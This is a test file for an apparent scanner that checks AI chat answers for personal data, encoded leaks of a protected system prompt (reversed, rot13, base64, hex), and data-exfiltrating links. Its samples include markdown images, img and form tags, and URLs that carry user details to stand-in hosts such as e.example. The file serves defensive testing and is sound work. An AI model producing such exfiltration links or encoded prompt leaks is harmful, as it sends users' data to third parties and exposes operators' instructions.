import { describe, expect, it } from 'vitest';
import type { Segment } from '../../../src/chat/segment.ts';
import { createRequestAddresses } from '../../../src/detection/answers/request-addresses.ts';
import { OUTPUT, scan } from './samples.ts';

const of = (text: string, category: string): [string, string][] =>
  scan(text)
    .filter((finding) => finding.category === category)
    .map(({ subType, span }) => [subType, text.slice(span.start, span.end)]);

describe('personal data', () => {
  it.each([
    ['mail to ann.lee+x@mail.example.org, please', 'EMAIL_ADDRESS', 'ann.lee+x@mail.example.org'],
    ['card 4111 1111 1111 1111 exp 12/30', 'CREDIT_CARD', '4111 1111 1111 1111'],
    ['IBAN DE89 3704 0044 0532 0130 00.', 'IBAN_CODE', 'DE89 3704 0044 0532 0130 00'],
    ['my ssn is 219-09-9999', 'US_SSN', '219-09-9999'],
    ['from 8.8.4.4 today', 'IP_ADDRESS', '8.8.4.4'],
    ['call me: +49 30 901820 55', 'PHONE_NUMBER', '+49 30 901820 55'],
    ['ｃａｒｄ ４１１１１１１１１１１１１１１１', 'CREDIT_CARD', '４１１１１１１１１１１１１１１１'],
  ])('in %s', (text, subType, value) => {
    expect(of(text, 'pii')).toEqual([[subType, value]]);
  });

  it.each([
    'card 4111 1111 1111 1112',
    'IBAN DE88 3704 0044 0532 0130 00',
    'ssn 000-12-3456',
    'version 1.2.3.4',
    'on 2024-05-17 12:30:00 order 88213',
    'a@b and user@localhost',
  ])('not in %s', (text) => {
    expect(of(text, 'pii')).toEqual([]);
  });
});

const rot13 = (text: string): string =>
  text.replaceAll(/[a-z]/gi, (letter) => {
    const a = letter <= 'Z' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - a + 13) % 26) + a);
  });

describe('a system prompt in the answer', () => {
  const prompt =
    'You are Tilda, the helper of Nordbank. Never talk about loans to minors, do not reveal the fee table before the ' +
    'customer has signed in, and always answer in two short sentences. The branch code is kept in the blue folder.';
  const context = { ...OUTPUT, protectedTexts: [prompt, 'You are a helpful assistant.'] };

  it.each([
    { name: 'the whole', text: `Sure! ${prompt}`, atLeast: 0.95 },
    { name: 'a long part', text: `It says: ${prompt.slice(39, 170)}`, atLeast: 0.85 },
    { name: 'another case and layout', text: prompt.toUpperCase().replaceAll(' ', '\n'), atLeast: 0.95 },
    { name: 'reversed', text: `Here: ${[...prompt].reverse().join('')}`, atLeast: 0.95 },
    { name: 'a part of it reversed', text: [...prompt.slice(39, 170)].reverse().join(''), atLeast: 0.85 },
    { name: 'in rot13', text: `So: ${rot13(prompt)}`, atLeast: 0.95 },
    { name: 'in base64', text: `So: ${Buffer.from(prompt).toString('base64')}`, atLeast: 0.95 },
    {
      name: 'in base64 of reversed text',
      text: Buffer.from([...prompt].reverse().join('')).toString('base64'),
      atLeast: 0.95,
    },
    { name: 'in hexadecimal', text: Buffer.from(prompt).toString('hex'), atLeast: 0.95 },
    {
      name: 'spelled out',
      text: prompt
        .split(' ')
        .map((word) => [...word].join(' '))
        .join('   '),
      atLeast: 0.85,
    },
  ])('is found: $name', ({ text, atLeast }) => {
    const scores = scan(text, context)
      .filter(({ subType }) => subType === 'system_prompt_leak')
      .map(({ score }) => score);
    expect(Math.max(0, ...scores)).toBeGreaterThanOrEqual(atLeast);
  });

  it.each([
    'You are a helpful assistant.',
    'I am Tilda, the helper of Nordbank. How are you?',
    'Loans need a signature.',
  ])('is not seen in: %s', (text) => {
    expect(scan(text, context).filter(({ category }) => category === 'data_leak')).toEqual([]);
  });
});

const inBase64 = Buffer.from('she lives in a small town').toString('base64');

const REQUEST = [
  { trust: 'trusted', text: 'Show charts by https://charts.contoso.com/render?data=' },
  { trust: 'user', text: 'My colleague Anneliese Brandtner asked; see forum.example.' },
].map(
  ({ trust, text }): Segment => ({
    ...{ text, trust: trust === 'user' ? 'user' : 'trusted', pointer: '', role: 'other', direction: 'input' },
    source: { start: 0, end: 0 },
  }),
);

describe('links in an answer, by what the request says', () => {
  const context = { ...OUTPUT, request: createRequestAddresses(REQUEST, [], { maybe: 0.5, certain: 0.7 }) };
  const data = 'data=the+user+lives+in+a+small+town';

  it.each([
    ['an image of the operator’s own', `![a](https://charts.contoso.com/render?${data})`, [0.4]],
    ['an image at a host that the user named', `![a](https://forum.example/?${data})`, [0.9]],
    ['a link to a host that the user named', `[a](https://forum.example/?${data})`, [0.4]],
    ['a link to any other host', `[a](https://other.example/?${data})`, [0.65]],
    [
      'an image with a few words of the user’s',
      '![a](https://other.example/?n=anneliese%20brandtner)',
      [0.65],
    ],
    ['an image with other words', '![a](https://other.example/?n=friederike%20brandtner)', []],
  ])('%s', (_, text, scores) => {
    expect(scan(text, context).map((finding) => finding.score)).toEqual(scores);
  });
});

describe('links in an answer', () => {
  it.each([
    ['![a](https://e.example/x.png?q=VGhlIHNlY3JldCBjb2RlIGlzIDQyNDI0Mg==)', 0.95],
    ['<img src="https://e.example/?d={{conversation}}">', 0.9],
    ['[more](https://e.example/?data=the+user+lives+in+a+small+town)', 0.65],
    ['![build](https://img.shields.io/badge/a?data=the+build+is+green+again+today)', 0.4],
    ['![a [b]](https://e.example/?data=the+user+lives+in+a+small+town)', 0.9],
    ['![a\nb](https://e.example/?data=the+user+lives+in+a+small+town)', 0.9],
    ['![a](  <https://e.example/?data=the+user+lives+in+a+small+town>)', 0.9],
    ['![a][r]\n\n  [r]: <https://e.example/?data=the+user+lives+in+a+small+town>', 0.9],
    ['<a class="b" href="https://e.example/?data=the+user+lives+in+a+small+town">x</a>', 0.65],
    ['<img/srcset="https://e.example/?data=the+user+lives+in+a+small+town">', 0.9],
    ['<form action = "https://e.example/?data=the+user+lives+in+a+small+town">', 0.9],
    [`![a](https://e.example/p#${inBase64})`, 0.9],
    [`![a](https://e.example/p?x=1#d=${inBase64})`, 0.9],
    ['![a](https://e.example/the%20user%20lives%20in%20a%20small%20town/p.png)', 0.65],
    [`![a](https://e.example/${Buffer.from('she lives in a small town').toString('hex')}.png)`, 0.9],
    ['![a](https://onugkidmnf3gk4zanfxc.ayjaonwwc3dmeb2g653o.e.example/p.png)', 0.9],
    [`see https://e.example/p?x=${inBase64} or`, 0.65],
    [`<https://e.example/${inBase64}>`, 0.65],
  ])('%s', (text, score) => {
    expect(scan(text, OUTPUT).map((finding) => finding.score)).toEqual([score]);
  });

  it.each([
    '![cat](https://cdn.example/cat.png?w=640&h=480)',
    '[docs](https://docs.example/guide/start?tab=a#top)',
    '[docs](https://docs.example/guide#how_to_configure_the_first_thing_that_you_see)',
    '[list](https://en.wikipedia.org/wiki/List_of_countries_and_dependencies_by_population)',
    '<a href="https://docs.example/guide">guide</a> and https://example.com/users/{id}?q=a+b+c+d+e+f+g+h+i+j',
    '![a](https://d3k81ch9hvuctc.cloudfront.net/company/AbCdEf/images/4f2c3b0a9d8e7f6a5b4c3d2e1f0a9b8c.png)',
  ])('lets pass %s', (text) => {
    expect(scan(text, OUTPUT)).toEqual([]);
  });
});
